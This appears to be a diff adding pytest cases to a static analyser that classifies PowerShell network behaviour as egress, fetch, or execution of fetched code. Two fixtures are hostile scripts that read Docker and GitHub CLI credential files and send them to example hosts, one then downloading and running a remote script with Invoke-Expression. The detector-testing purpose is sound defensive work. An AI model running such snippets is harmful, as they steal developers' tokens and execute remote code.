@@ -166,3 +166,35 @@ def test_a_download_method_reached_by_reflection_is_the_download(tmp_path: Path,
     assert {detail for kind, detail in summary(found) if kind is Kind.EXEC_FETCHED} == {
         "https://mirror.ops-kit.example/boot.ps1"
     }
+
+
+def test_parameters_splatted_from_a_table_are_the_commands_parameters(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "$cfg = Get-Content -Raw -Path (Join-Path $env:USERPROFILE '.docker\\config.json')\n"
+        "$call = @{ Uri = 'https://registry-audit.ops-kit.example/r'; Method = 'Put'; Body = $cfg }\n"
+        "Invoke-WebRequest @call -UseBasicParsing | Out-Null\n",
+    )
+    assert chain(found, Kind.EGRESS)[-1] == (3, "sends it to registry-audit.ops-kit.example")
+    assert len(chain(found, Kind.EGRESS)) == 2
+
+
+def test_a_splatted_download_that_is_only_saved_stays_a_fetch(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "$get = @{ Uri = 'https://docs.ops-kit.example/guide.pdf'; OutFile = 'guide.pdf' }\nInvoke-WebRequest @get\n",
+    )
+    assert {kind for kind, _detail in summary(found)} == {Kind.FETCH}
+
+
+def test_an_http_client_made_with_new_posts_what_it_read_and_runs_what_it_got(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "$http = [System.Net.Http.HttpClient]::new()\n"
+        "$token = [IO.File]::ReadAllText([IO.Path]::Combine($HOME, '.config', 'gh', 'hosts.yml'))\n"
+        "$null = $http.PostAsync('https://relay.ops-kit.example/t', [Net.Http.StringContent]::new($token)).Result\n"
+        "$next = $http.GetStringAsync('https://relay.ops-kit.example/next.ps1').Result\n"
+        "Invoke-Expression $next\n",
+    )
+    assert chain(found, Kind.EGRESS)[-1] == (3, "sends it to relay.ops-kit.example")
+    assert (Kind.EXEC_FETCHED, "https://relay.ops-kit.example/next.ps1") in summary(found)
